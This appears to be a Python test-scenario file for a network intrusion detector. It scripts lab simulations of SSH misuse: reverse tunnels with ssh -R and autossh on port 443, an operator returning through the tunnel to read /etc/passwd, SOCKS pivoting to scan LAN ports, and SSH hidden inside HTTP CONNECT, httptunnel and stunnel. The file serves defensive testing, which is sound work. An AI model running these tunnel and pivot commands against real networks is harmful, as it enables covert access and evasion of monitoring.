"""SSH where it does not belong, as a tunnel, and inside other protocols."""
from collections.abc import Callable

from engine import addresses as at
from engine.declaration import malicious
from engine.network import Network
from engine.services import LOOK_AROUND, ssh, sshd, web

CURL = "curl -sS -m 10 -o /dev/null"
PAGES = ["index.html", "style.css", "img1.png", "page3.html", "img5.png", "page7.html", "img2.png"]


def interactive(port: int) -> Callable[[Network], None]:
    def play(net: Network) -> None:
        sshd(net, net.inet, at.BAD, port)
        net.c1.type(f"{ssh(net)} -p {port} root@{at.BAD}", LOOK_AROUND, pause=2)

    return play


for number in (443, 80, 4444):
    malicious(f"ssh-on-{number}", "T1571 T1573.002", tools="openssh-client openssh-server", talks=f"c1>{at.BAD}:{number}/tcp", expects=["nonstandard_port T1571" if number > 1024 else "nonstandard_port medium T1571"],
              seconds=40, about=f"interactive ssh to an outside host on tcp/{number}")(interactive(number))  # fmt: skip


def reverse(net: Network, port: int, client: str, alive: int) -> None:
    """ssh -R from the client; the operator can come back through port 2222 outside."""
    sshd(net, net.inet, at.BAD, port)
    sshd(net, net.c1, "127.0.0.1", 22)
    options = f"-o ServerAliveInterval={alive} -o ExitOnForwardFailure=yes -R 127.0.0.1:2222:127.0.0.1:22 -p {port} root@{at.BAD}"
    net.c1.start(f"{client} -N -F {net.material.ssh_config()} {options}")
    net.inet.wait_until(lambda: ":2222" in net.inet.quietly("ss -Hltn").stdout, "the reverse port")


@malicious("ssh-reverse-R", "T1572 T1090 T1571", tools="autossh openssh-client", talks=f"c1>{at.BAD}:443/tcp", expects=["T1571", "T1572"], seconds=100)
def autossh(net: Network) -> None:
    """autossh -R on 443, keep-alive every 5 s, mostly idle; the operator comes back through it twice"""
    reverse(net, 443, "env AUTOSSH_GATETIME=0 autossh -M 0", alive=5)
    net.sleep(30)
    net.inet.type(f"{ssh(net)} -p 2222 root@127.0.0.1", LOOK_AROUND)
    net.sleep(25)
    net.inet.run(f"{ssh(net)} -p 2222 root@127.0.0.1 'cat /etc/passwd; ls /usr/share | head -100'")
    net.sleep(8)


@malicious("long-ssh-R-30s", "T1572 T1571", tools="openssh-client", talks=f"c1>{at.BAD}:443/tcp", expects=["long_session medium T1572", "T1571"], seconds=1230)
def twenty_minutes(net: Network) -> None:
    """20 minutes: ssh -R on 443, ServerAliveInterval 30, used once"""
    reverse(net, 443, "ssh", alive=30)
    net.sleep(800)
    net.inet.run(f"{ssh(net)} -p 2222 root@127.0.0.1 'id; ls /usr/share | head -50'")
    net.sleep(400)


@malicious("time-scaled-ssh-R-6h", "T1572 T1571 T1029", tools="openssh-client faketime", talks=f"c1>{at.BAD}:443/tcp", stretch=60, gap=0.4, timestamps=False,
           expects=["long_session medium T1572", "T1571"], seconds=350)  # fmt: skip
def six_hours(net: Network) -> None:
    """ssh -R with ServerAliveInterval 60 really set, the client under libfaketime x60: 6 h of its clock in 6 min"""
    reverse(net, 443, "faketime -f '+0 x60' ssh", alive=60)
    net.sleep(215)
    net.inet.run(f"{ssh(net)} -p 2222 root@127.0.0.1 'id; ls /usr/share | head -50'")
    net.sleep(110)


@malicious("ssh-socks-D", "T1572 T1090.002", tools="openssh-client curl", talks=f"c1>{at.BAD}:22/tcp", expects=["T1572"], seconds=45)
def socks(net: Network) -> None:
    """ssh -D 1080 with keep-alives: other sites are read through an outside ssh server"""
    sshd(net, net.inet, at.BAD, 22)
    web(net.inet, f"{at.OK}.10", 80, options=f"--root {net.material.website()}")
    net.c1.start(f"{ssh(net)} -N -o ServerAliveInterval=3 -D 127.0.0.1:1080 -p 22 root@{at.BAD}", listens="1080/tcp")
    net.c1.every(3, 0.4, len(PAGES), lambda n, _: f"{CURL} --socks5 127.0.0.1:1080 http://{at.OK}.10/{PAGES[n]}")


@malicious("socks-on-client", "T1090.001 T1090.002 T1572", tools="microsocks openssh-client curl", talks=f"c1>{at.BAD}:443/tcp c1>srv:80/tcp", hosts="c1 srv", expects=["T1571"], seconds=50)
def pivot(net: Network) -> None:
    """a SOCKS server on the client, handed out through ssh -R on 443: the operator looks around the LAN"""
    sshd(net, net.inet, at.BAD, 443)
    net.c1.start("microsocks -i 127.0.0.1 -p 1080", listens="1080/tcp")
    net.c1.start(f"{ssh(net)} -N -o ServerAliveInterval=10 -R 127.0.0.1:1080:127.0.0.1:1080 -p 443 root@{at.BAD}")
    net.inet.wait_until(lambda: ":1080" in net.inet.quietly("ss -Hltn").stdout, "the reverse port")
    web(net.srv, at.SERVER, 80, options=f"--root {net.material.website()}")
    ports = [22, 80, 443, 445, 3389, 80, 8080, 80]
    net.inet.every(2, 0.3, len(ports), lambda n, _: f"{CURL} -m 3 --socks5 127.0.0.1:1080 http://{at.SERVER}:{ports[n]}/")


@malicious("ssh-in-http-connect", "T1572 T1090.001", tools="proxytunnel tinyproxy openssh-client", talks="c1>srv:8888/tcp", hosts="c1 srv", expects=["T1572"], seconds=40)
def in_connect(net: Network) -> None:
    """ssh through the site's own HTTP proxy: CONNECT to port 443"""
    config = net.path("tinyproxy.conf", f"Port 8888\nListen {at.SERVER}\nTimeout 600\nAllow {at.LAN}.0/24\nConnectPort 443\n")
    sshd(net, net.inet, at.BAD, 443)
    net.srv.start(f"tinyproxy -d -c {config}", listens="8888/tcp")
    net.c1.type(f"{ssh(net)} -o 'ProxyCommand=proxytunnel -q -p {at.SERVER}:8888 -d {at.BAD}:443' root@{at.BAD}", LOOK_AROUND, pause=2)


@malicious("ssh-in-httptunnel", "T1572 T1071.001", tools="httptunnel openssh-client", talks=f"c1>{at.BAD}:80/tcp", expects=["low"], seconds=40)
def in_httptunnel(net: Network) -> None:
    """httptunnel (htc and hts) on tcp/80 carrying ssh"""
    sshd(net, net.inet, "127.0.0.1", 22)
    net.inet.start("hts -w -F 127.0.0.1:22 80", listens="80/tcp")
    net.c1.start(f"htc -w -F 2222 {at.BAD}:80", listens="2222/tcp")
    net.c1.type(f"{ssh(net)} -p 2222 root@127.0.0.1", LOOK_AROUND)


@malicious("ssh-in-stunnel", "T1572 T1573.002", tools="stunnel4 openssh-client", talks=f"c1>{at.BAD}:443/tcp", expects=["T1573"], seconds=40)
def in_stunnel(net: Network) -> None:
    """ssh inside TLS on 443 (stunnel, a self-signed certificate)"""
    sshd(net, net.inet, "127.0.0.1", 22)
    lines = "foreground=yes\npid=/tmp/stunnel.pid\nclient={}\n[ssh]\naccept={}\nconnect={}\n{}\n"
    server = net.path("stunnel-server.conf", lines.format("no", f"{at.BAD}:443", "127.0.0.1:22", f"cert={net.material.self_signed().pem}"))
    client = net.path("stunnel-client.conf", lines.format("yes", "127.0.0.1:2222", f"{at.BAD}:443", ""))
    net.inet.start(f"stunnel4 {server}", listens="443/tcp")
    net.c1.start(f"stunnel4 {client}", listens="2222/tcp")
    net.c1.type(f"{ssh(net)} -p 2222 root@127.0.0.1", LOOK_AROUND, pause=2)
